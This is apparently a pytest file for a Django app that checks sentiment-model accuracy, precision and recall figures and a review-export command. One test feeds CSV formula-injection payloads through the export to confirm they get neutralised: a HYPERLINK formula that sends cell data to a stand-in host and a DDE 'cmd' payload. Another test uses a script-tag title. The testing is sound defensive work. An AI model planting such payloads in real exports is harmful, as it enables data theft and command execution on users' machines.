"""Model quality figures on a known set (computed by hand here), and export_reviews."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse

from articles import review
from articles.quality import quality_report
from marketpulse.spreadsheet import cell_protect

pytestmark = pytest.mark.django_db

JAN = datetime(2026, 1, 15, 12, 30, tzinfo=UTC)
FEB = datetime(2026, 2, 10, 9, 30, tzinfo=UTC)

# (model, month, reviewer's label (truth), model's label, how many)
KNOWN_SET = [
    ("m1", JAN, "positive", "positive", 3),
    ("m1", JAN, "positive", "negative", 1),
    ("m1", JAN, "negative", "negative", 2),
    ("m1", JAN, "neutral", "positive", 1),
    ("m2", FEB, "neutral", "neutral", 2),
    ("m2", FEB, "negative", "neutral", 1),
    ("m2", FEB, "positive", "positive", 1),
]


@pytest.fixture
def known_set(make_article, tickers, reviewer):
    for model, month, truth, predicted, count in KNOWN_SET:
        for _ in range(count):
            a = make_article(["GME"], label=predicted, model=model, created=month)
            review.review_mark(article_ids=[a.pk], label=truth, reviewer=reviewer)
    # Not counted: unreviewed, and reviewed-but-unscored (re-queued).
    make_article(["GME"], label="positive", model="m1", created=JAN)
    b = make_article(["GME"], label="positive", model="m1", created=JAN)
    review.review_mark(article_ids=[b.pk], label="negative", reviewer=reviewer)
    review.review_requeue(article_ids=[b.pk])


def test_overall_figures_match_the_hand_computation(known_set):
    report = quality_report()
    fig = report.overall
    # Confusion (rows reviewer, cols model) over 11 reviews:
    #   positive: 4 positive, 1 negative, 0 neutral
    #   negative: 0 positive, 2 negative, 1 neutral
    #   neutral:  1 positive, 0 negative, 2 neutral
    assert fig.n == 11 and fig.correct == 8
    assert fig.matrix_rows == [("positive", [4, 1, 0]), ("negative", [0, 2, 1]), ("neutral", [1, 0, 2])]
    assert fig.accuracy == pytest.approx(8 / 11)
    classes = {c.label: c for c in fig.classes}
    assert (classes["positive"].precision, classes["positive"].recall) == (pytest.approx(4 / 5), pytest.approx(4 / 5))
    assert (classes["negative"].precision, classes["negative"].recall) == (pytest.approx(2 / 3), pytest.approx(2 / 3))
    assert (classes["neutral"].precision, classes["neutral"].recall) == (pytest.approx(2 / 3), pytest.approx(2 / 3))
    assert (classes["positive"].predicted, classes["positive"].support) == (5, 5)


def test_figures_by_model_and_by_month(known_set):
    report = quality_report()
    assert list(report.by_model) == ["m1", "m2"]
    m1, m2 = report.by_model["m1"], report.by_model["m2"]
    assert (m1.n, m1.correct, m1.accuracy) == (7, 5, pytest.approx(5 / 7))
    m1c = {c.label: c for c in m1.classes}
    assert m1c["neutral"].precision is None  # m1 never said neutral: no figure, not 0
    assert m1c["neutral"].recall == 0.0  # one neutral text, m1 got it wrong
    assert m1c["positive"].precision == pytest.approx(3 / 4) and m1c["positive"].recall == pytest.approx(3 / 4)
    assert m1c["negative"].precision == pytest.approx(2 / 3) and m1c["negative"].recall == pytest.approx(1.0)
    assert (m2.n, m2.correct, m2.accuracy) == (4, 3, pytest.approx(3 / 4))
    m2c = {c.label: c for c in m2.classes}
    assert m2c["negative"].precision is None and m2c["negative"].recall == 0.0
    assert m2c["neutral"].precision == pytest.approx(2 / 3) and m2c["neutral"].recall == 1.0
    assert {m: f.n for m, f in report.by_month.items()} == {date(2026, 2, 1): 4, date(2026, 1, 1): 7}
    assert report.by_month[date(2026, 1, 1)].accuracy == pytest.approx(5 / 7)
    assert {k: f.n for k, f in report.by_model_month.items()} == {
        ("m1", date(2026, 1, 1)): 7,
        ("m2", date(2026, 2, 1)): 4,
    }


def test_quality_page_shows_the_figures(reviewer_client, known_set, django_assert_max_num_queries):
    url = reverse("admin:articles_article_quality")
    reviewer_client.get(url)
    with django_assert_max_num_queries(8):
        response = reviewer_client.get(url)
    html = response.content.decode()
    overall = html.split('id="quality-overall"')[1].split("</section>")[0]
    assert "<strong>11</strong> reviews" in overall and "72.7%" in overall  # 8/11
    assert '<td class="precision">80.0%</td>' in overall and '<td class="recall">66.7%</td>' in overall
    m1 = html.split('data-model="m1"')[1].split('data-model="m2"')[0]
    assert "71.4%" in m1 and '<td class="precision">—</td>' in m1  # 5/7; m1 never predicted neutral
    month = html.split('data-month="2026-02"')[1].split("</tr>")[0]
    assert '<td class="n">4</td>' in month and '<td class="accuracy">75.0%</td>' in month


def test_quality_page_with_no_reviews(reviewer_client):
    html = reviewer_client.get(reverse("admin:articles_article_quality")).content.decode()
    assert "No reviews yet." in html and "accuracy <strong>—</strong>" in html


def test_export_csv_and_jsonl(make_article, tickers, reviewer, tmp_path):
    hostile = make_article(
        ["GME", "TSLA"], label="negative", title='Calls, "puts"\nand <script>x</script>', body="line1\r\nline2,,;"
    )
    plain = make_article(["SPY"], label="positive")
    make_article(["SPY"], label="neutral")  # unreviewed: not exported
    review.review_mark(article_ids=[hostile.pk], label="positive", reviewer=reviewer)
    review.review_mark(article_ids=[plain.pk], label="neutral", reviewer=reviewer)

    out = io.StringIO()
    call_command("export_reviews", "--format", "jsonl", stdout=out, stderr=io.StringIO())
    rows = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [r["reddit_id"] for r in rows] == [hostile.reddit_id, plain.reddit_id]
    assert rows[0]["text"] == hostile.text and rows[0]["tickers"] == ["GME", "TSLA"]
    assert (rows[0]["reviewed_label"], rows[0]["model_label"], rows[0]["reviewer"]) == ("positive", "negative", "rita")

    target = tmp_path / "reviews.csv"
    ok = io.StringIO()
    call_command("export_reviews", "--format", "csv", "--output", str(target), stdout=ok)
    assert "exported 2" in ok.getvalue()
    with target.open(newline="", encoding="utf-8") as fh:
        parsed = list(csv.DictReader(fh))
    assert [r["reddit_id"] for r in parsed] == [hostile.reddit_id, plain.reddit_id]
    assert parsed[0]["text"] == hostile.text and parsed[0]["tickers"] == "GME TSLA"
    assert parsed[1]["reviewed_label"] == "neutral" and parsed[1]["model_label"] == "positive"
    assert [p.name for p in tmp_path.iterdir()] == ["reviews.csv"]  # no temp file left behind


@pytest.mark.parametrize(
    "title", ['=HYPERLINK("http://x.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "'=SUM(1)"]
)
def test_export_csv_quotes_cells_a_spreadsheet_would_run(make_article, tickers, reviewer, tmp_path, title):
    """A text cell starting like a formula gains a leading ' (issue 30 item 17); jsonl is untouched."""
    article = make_article(["GME"], label="negative", title=title, body="")
    review.review_mark(article_ids=[article.pk], label="positive", reviewer=reviewer)
    target = tmp_path / "reviews.csv"
    call_command("export_reviews", "--format", "csv", "--output", str(target), stdout=io.StringIO())
    with target.open(newline="", encoding="utf-8") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["text"] == "'" + article.text
    assert row["text"][1:] == article.text  # nothing else changed: one ' comes off
    assert row["reviewed_label"] == "positive" and row["model_confidence"] == "0.9"
    out = io.StringIO()
    call_command("export_reviews", "--format", "jsonl", stdout=out, stderr=io.StringIO())
    assert json.loads(out.getvalue())["text"] == article.text


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("\t=cmd", "'\t=cmd"),
        ("\rcmd", "'\rcmd"),
        ("'=x", "''=x"),  # one more ' so dropping one gives the value back
        ("''", "''"),
        ("a=b", "a=b"),
        ("", ""),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_cell_protect(value, shown):
    assert cell_protect(value) == shown


def test_export_csv_leaves_plain_text_alone(make_article, tickers, reviewer, tmp_path):
    article = make_article(["GME"], title="GME to the moon - 100 shares", body="", label="negative")
    review.review_mark(article_ids=[article.pk], label="neutral", reviewer=reviewer)
    target = tmp_path / "reviews.csv"
    call_command("export_reviews", "--format", "csv", "--output", str(target), stdout=io.StringIO())
    with target.open(newline="", encoding="utf-8") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["text"] == article.text


def test_export_errors(tmp_path, db):
    with pytest.raises(CommandError) as exc:
        call_command("export_reviews", "--format", "csv", "--output", str(tmp_path / "missing" / "x.csv"))
    assert exc.value.returncode == 2 and "does not exist" in str(exc.value)
    with pytest.raises(CommandError):
        call_command("export_reviews", "--format", "xml")
